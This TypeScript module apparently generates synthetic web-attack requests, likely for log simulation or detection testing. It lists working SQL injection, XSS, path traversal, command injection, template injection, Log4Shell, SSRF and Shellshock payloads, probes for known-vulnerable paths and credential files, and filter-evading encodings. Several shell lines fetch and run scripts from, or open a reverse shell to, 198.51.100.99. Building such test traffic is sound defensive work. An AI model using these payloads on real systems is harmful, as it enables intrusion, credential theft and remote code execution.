import type { Random } from './random.ts';

/**
 * What attackers send: the kinds of payload, the places known to be weak, and the encodings all of it comes in. Over 200
 * lines, most of which are lists of these.
 */

export interface Attack {
  readonly method: string;
  /** Path and query, as sent. */
  readonly target: string;
  readonly agent?: string;
  readonly referer?: string;
}

const NUMBER = /\{n\}/g;

/** `{n}` is another number each time. */
const PAYLOADS = {
  sql: [
    "1' UNION SELECT NULL,NULL,CONCAT(0x716b627a71,{n},0x7171767a71)-- -",
    '-{n} UNION ALL SELECT user,password FROM users#',
    '1 AND {n}={n}',
    "x' OR '1'='1' LIMIT {n}-- ",
    "1');WAITFOR DELAY '0:0:5'--",
    '1 AND (SELECT {n} FROM (SELECT(SLEEP(5)))kLqX)',
    '(SELECT {n} FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)',
    "1'/**/uNiOn/**/sElEcT/**/{n},2,table_name/**/from/**/information_schema.tables-- ",
    '1 AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT @@version)))',
    "1';DROP TABLE log{n};--",
    '1) ORDER BY {n}-- -',
    "1'||(SELECT pg_sleep({n}))||'",
  ],
  script: [
    '<script>alert({n})</script>',
    '"><svg/onload=confirm({n})>',
    "'-alert({n})-'",
    '<img src=x onerror=prompt({n})>',
    'javascript:alert(document.cookie)//{n}',
    '<ScRiPt >eval(String.fromCharCode(97,108,101,114,116,40,{n},41))</ScRiPt>',
    '<iframe srcdoc="&lt;script&gt;alert({n})&lt;/script&gt;">',
    '<details open ontoggle=alert({n})>',
  ],
  file: [
    '../../../../../../etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    '....//....//....//etc/hosts',
    'php://filter/convert.base64-encode/resource=config{n}.php',
    '../../../../../proc/self/environ',
    'file:///etc/passwd',
    '/var/log/apache2/access.log',
    'expect://id',
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
  ],
  shell: [
    ';id',
    '|cat /etc/passwd',
    '`wget http://198.51.100.99/{n}.sh -O /tmp/{n}.sh`',
    '$(curl -s http://198.51.100.99/x{n}|sh)',
    '&& ping -c {n} 198.51.100.99',
    ';nc -e /bin/sh 198.51.100.99 {n}',
    '| powershell -enc SQBFAFgA{n}',
    '%0acat /etc/passwd',
    ';rm -rf /tmp/*;wget http://198.51.100.99/mips;chmod 777 mips;./mips',
  ],
  code: [
    '<?php system($_GET[{n}]);?>',
    '{{{n}*7}}',
    '${7*{n}}',
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "__import__('os').popen('id').read()",
    'O:8:"stdClass":{n}:{s:1:"a";i:1;}',
    'phpinfo({n})',
  ],
  lookup: [
    '${jndi:ldap://198.51.100.99:1389/a{n}}',
    '${${lower:j}ndi:${lower:l}dap://198.51.100.99/{n}}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.99/{n}}',
  ],
  request: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:{n}/admin',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    '//evil{n}.example/%2f..',
    'https://evil{n}.example/login',
    '\r\nSet-Cookie: sid={n}',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '*)(uid=*))(|(uid=*',
    '{"$gt":""}',
    '<!--#exec cmd="ls"-->',
  ],
};
type Kind = keyof typeof PAYLOADS;
/** As often as they are tried. */
export const KINDS: readonly Kind[] = 'sql sql sql script script file file shell shell code lookup request'.split(
  ' ',
) as Kind[];

const PLACES = [
  '/item.php?id=',
  '/index.php?page=',
  '/search?q=',
  '/shop/?cat=',
  '/download?file=',
  '/forum/viewtopic.php?f=2&t=',
  '/cgi-bin/test.cgi?',
  '/api/v2/suggest?limit=10&term=',
  '/login?next=',
  '/ping?host=',
];

/** One request each of what worms and their keepers look for everywhere. */
const KNOWN_HOLES =
  `/.env /.env.production /api/.env /.git/config /.git/HEAD /.svn/entries /.DS_Store /.aws/credentials /.ssh/id_rsa
/wp-login.php /xmlrpc.php /wp-config.php.bak /wp-json/wp/v2/users /wp-content/debug.log /wp-admin/install.php
/wp-content/plugins/revslider/temp/update_extract/revslider/info.php /phpmyadmin/index.php /pma/ /myadmin/ /adminer.php
/phpinfo.php /info.php /test.php /shell.php /c99.php /wso.php /alfa.php /up.php?cmd=id /backup.zip /backup.sql /db.sql.gz
/dump.sql /www.tar.gz /config.json /web.config /server-status /actuator/env /actuator/heapdump /actuator/gateway/routes
/solr/admin/info/system?wt=json /manager/html /host-manager/html /jenkins/script /console/ /invoker/readonly
/struts2-showcase/index.action /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /_ignition/execute-solution
/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP
/boaform/admin/formLogin /GponForm/diag_Form?images/ /HNAP1/ /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id
/cgi-bin/luci/;stok=/locale?form=country /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh /icons/.%%32%65/.%%32%65/etc/passwd
/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example
/owa/auth/logon.aspx /ecp/default.flt /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd /vpn/../vpns/cfg/smb.conf
/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ /nagios/cgi-bin/status.cgi
/api/v1/totp/user-backup-code/../../license/keys-status/;id /pages/createpage-entervariables.action /login.action
/geoserver/web/ /v1/agent/self /_cat/indices /telescope/requests /debug/default/view?panel=config /druid/index.html
/.well-known/security.txt /sitemap.xml.gz /users/sign_in /zabbix/index.php /cacti/graph_view.php /magento_version`
    .trim()
    .split(/\s+/);

const GUESSES =
  'admin old new test dev staging backup upload uploads files data private secret config inc include lib logs log tmp temp cache install setup portal panel cp db sql dump archive bak site www web api v1 v2 user login auth member console manage system report export import download docs help status info'.split(
    ' ',
  );
const EXTENSIONS = ['', '/', '.php', '.bak', '.zip', '.txt', '.asp', '.old', '.sql', '.json', '~', '.php.swp'];

type Encode = (text: string) => string;

const byByte = (text: string, show: (hex: string) => string) =>
  [...Buffer.from(text)].map((byte) => show(byte.toString(16).padStart(2, '0'))).join('');

/** As tools and people encode: well, too little, too much, twice, or so that a filter may overlook it. */
const ENCODINGS: readonly Encode[] = [
  encodeURIComponent,
  quote,
  (text) => quote(text).replaceAll('%20', '+'),
  (text) => quote(text).replace(/%../g, (sign) => sign.toLowerCase()),
  sendRaw,
  sendRaw,
  (text) => byByte(text, (hex) => `%${hex}`),
  (text) => encodeURIComponent(quote(text)),
  (text) => sendRaw(text.replace(/['"<>]/g, (sign) => `%u00${sign.charCodeAt(0).toString(16)}`)),
  (text) => sendRaw(text.replaceAll('../', '..%c0%af').replaceAll("'", '%ef%bc%87')),
];

function anyPayload(kind: Kind, random: Random): string {
  const payload = random.pick<string>(PAYLOADS[kind]);
  const number = String(random.between(1, 9999));
  return payload.replace(NUMBER, number);
}

/** A payload in a parameter; some of them in the agent or the referer, where software logs or shows them. */
export function injectAt(place: string, kind: Kind, random: Random): Attack {
  const payload = anyPayload(kind, random);
  const isForHeaders = kind === 'lookup' || random.chance(0.05);
  if (isForHeaders && random.chance(0.5)) {
    const text = asApacheWrites(payload);
    return random.chance(0.7)
      ? { method: 'GET', target: '/', agent: text }
      : { method: 'GET', target: '/', referer: `https://www.example.org/${text}` };
  }
  return { method: random.chance(0.1) ? 'POST' : 'GET', target: place + random.pick(ENCODINGS)(payload) };
}

export function anyPlace(random: Random): string {
  return random.pick(PLACES);
}

export function probeKnownHole(random: Random): Attack {
  if (random.chance(0.03)) return { method: 'GET', target: '/cgi-bin/status', agent: SHELLSHOCK };
  const target = asApacheWrites(random.pick(KNOWN_HOLES));
  return { method: random.chance(0.1) ? 'POST' : 'GET', target };
}

export function guessPath(random: Random): Attack {
  const folder = random.chance(0.4) ? `/${random.pick(GUESSES)}` : '';
  const target = `${folder}/${random.pick(GUESSES)}${random.chance(0.3) ? random.below(100) : ''}${random.pick(EXTENSIONS)}`;
  return { method: random.chance(0.3) ? 'HEAD' : 'GET', target };
}

const SHELLSHOCK = '() { :;}; /bin/bash -c \\"wget -q -O- http://198.51.100.99/s|bash\\"';

/** As encodeURIComponent, which leaves some signs that matter here. */
function quote(text: string): string {
  return encodeURIComponent(text).replace(/[!'()*]/g, (sign) => `%${sign.charCodeAt(0).toString(16).toUpperCase()}`);
}

/** Sent without any encoding but of what would end the request line. */
function sendRaw(text: string): string {
  return asApacheWrites(text.replace(/[ \r\n]/g, encodeURIComponent));
}

function asApacheWrites(text: string): string {
  return text
    .replace(/["\\]/g, (sign) => `\\${sign}`)
    .replaceAll('\r', '\\r')
    .replaceAll('\n', '\\n');
}
